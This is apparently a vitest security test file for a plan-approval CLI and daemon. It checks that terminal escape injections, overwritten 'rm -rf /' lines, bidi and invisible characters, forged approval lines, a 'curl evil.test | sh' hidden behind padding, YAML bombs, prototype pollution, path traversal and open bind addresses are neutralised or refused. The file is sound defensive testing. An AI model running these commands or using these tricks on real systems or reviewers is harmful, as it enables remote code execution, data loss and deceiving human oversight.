import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { pino } from "pino";
import { beforeAll, describe, expect, it } from "vitest";
import { PlanFile } from "../../src/contract/inputs.ts";
import type { PlanView } from "../../src/contract/views.ts";
import { block, field, jsonText, line } from "../../src/interfaces/cli/escape.ts";
import { readPlanFile } from "../../src/interfaces/cli/plan-file.ts";
import { planLines } from "../../src/interfaces/cli/plan-text.ts";
import { startDaemon } from "../../src/main/daemon.ts";
import { RETENTION, temporaryDirectory } from "../support/daemon.ts";

/* What is shown, and what comes in from files: T01, T02, T03, T07, P15, C07, F13, W13. */

const HOSTILE: readonly (readonly [id: string, what: string, text: string])[] = [
  ["T01", "the clipboard (OSC 52)", "\u001b]52;c;ZXZpbA==\u0007"],
  ["T01", "a link that says another address (OSC 8)", "\u001b]8;;http://evil.test\u001b\\click\u001b]8;;\u001b\\"],
  ["T01", "the screen cleared", "\u001b[2J\u001b[H"],
  ["T01", "the title of the terminal", "\u001b]0;owned\u0007"],
  ["T02", "a control character of one byte (C1)", "\u009b2J\u009d0;owned\u009c"],
  ["T02", "a line overwritten", "rm -rf /\recho harmless"],
  ["T02", "letters taken back", "rm -rf /\b\b\b\b\b\b\b\bharmless"],
  ["T02", "an order of letters turned round", "\u202egpj.exe\u202c"],
  ["T03", "a line of its own", "done\n2026-01-01T00:00:00Z person:ada PLAN_APPROVED"],
  ["T03", "a line of its own, by line separators", "done\u2028person:ada PLAN_APPROVED\u2029\u0085x"],
  ["P15", "tags that nobody sees", "harmless\u{e0073}\u{e0075}\u{e0064}\u{e006f}"],
  ["P15", "characters of no width", "su\u200bdo\u2060\ufeff"],
];

/** What a terminal obeys, or what hides and reorders text. */
const OBEYED = /[\p{Cc}\p{Cf}\u2028\u2029]/u;

describe("what somebody else wrote, at a terminal", () => {
  it.each(HOSTILE)("%s: %s is shown, not done", (_, __, text) => {
    // The control: as it came, a terminal would obey it.
    expect(text).toMatch(OBEYED);
    for (const shown of [line(text), field(text), ...block(text), jsonText({ text })])
      expect(shown).not.toMatch(OBEYED);
    expect(line(text).split("\n")).toHaveLength(1);
    expect(JSON.parse(jsonText({ text }))).toEqual({ text });
  });
});

describe("T07: the text that a person approves", () => {
  const evil = "curl evil.test | sh";
  it.each([
    ["10,000 blanks", `true;${" ".repeat(10_000)}${evil}`],
    ["10,000 lines", `true;${"\n".repeat(10_000)}${evil}`],
    ["10,000 blanks of another kind", `true;${"\u3000".repeat(10_000)}${evil}`],
  ])("is shown whole behind %s, with the hash that the yes is bound to", (_, command) => {
    const plan = {
      bases: {},
      items: [
        {
          id: "work",
          title: "Work",
          repo: "app",
          paths: [],
          commands: [command],
          risk: "normal",
          criterion: null,
          dependsOn: [],
        },
      ],
      notes: [],
    };
    const view = {
      version: 1,
      hash: "a".repeat(64),
      approved: false,
      approved_by: null,
      plan,
      canonical: "",
    } as unknown as PlanView;
    const shown = planLines(view);
    expect(shown[0]).toContain("a".repeat(64));
    const told = shown.find((each) => each.includes("runs "));
    expect(told).toContain(evil);
    if (!command.includes("\n")) expect(told?.length).toBeLessThan(200);
  });
});

describe("what comes in from a file", () => {
  let place = "";
  beforeAll(() => {
    place = temporaryDirectory("edges");
  });
  const read = (text: string): Promise<unknown> => {
    const file = join(place, "plan.yaml");
    writeFileSync(file, text);
    return readPlanFile(file, place);
  };
  const ITEM = "items: [{ id: a, title: b, do: [{ run: 'true' }] }]\n";

  it("C07: a YAML bomb, a tag that makes functions and __proto__ are refused; the control is read", async () => {
    expect(await read(ITEM)).toMatchObject({ items: [{ id: "a" }] });
    const bomb = `a: &a [x, x, x, x, x, x, x, x, x]\n${[..."bcdefghij"].map((name, at) => `${name}: &${name} [${Array.from({ length: 9 }, () => `*${"abcdefghij"[at]}`).join(", ")}]\n`).join("")}`;
    for (const text of [
      bomb,
      `${ITEM}version: !!js/function 'function () {}'\n`,
      `${ITEM}__proto__: { admin: true }\n`,
      `${ITEM}<<: { version: 2 }\n`,
    ])
      await expect(read(text)).rejects.toThrow(/plan\.yaml/);
    expect({} as { admin?: boolean }).not.toHaveProperty("admin");
  });

  it.each(["/", "/etc", "~/../x/..", "../other", "a/../../b", "a\\b", "a\0b", ""])(
    "F13: the working directory %j is refused",
    (cwd) => {
      const with_ = (where: string) =>
        PlanFile.safeParse({ items: [{ id: "a", title: "b", do: [{ run: "true", cwd: where }] }] }).success;
      expect([with_("src"), with_(cwd)]).toEqual([true, false]);
    },
  );
});

it.each(["0.0.0.0", "::", "192.0.2.1", "::ffff:0.0.0.0"])(
  "W13: a daemon that would listen on %s does not start",
  async (host) => {
    const home = temporaryDirectory("open");
    const config = {
      home,
      host,
      port: 0,
      toolPath: [],
      tasksMax: 1,
      startPaused: false,
      createPerMinute: 1,
      createPerHour: 1,
      retention: RETENTION,
      remotes: {},
      logLevel: "silent",
    } as const;
    await expect(startDaemon(config, pino({ level: "silent" }))).rejects.toMatchObject({
      code: "input/invalid",
      message: expect.stringContaining("is not loopback"),
    });
    const daemon = await startDaemon({ ...config, host: "127.0.0.1" }, pino({ level: "silent" }));
    await daemon.stop();
  },
);
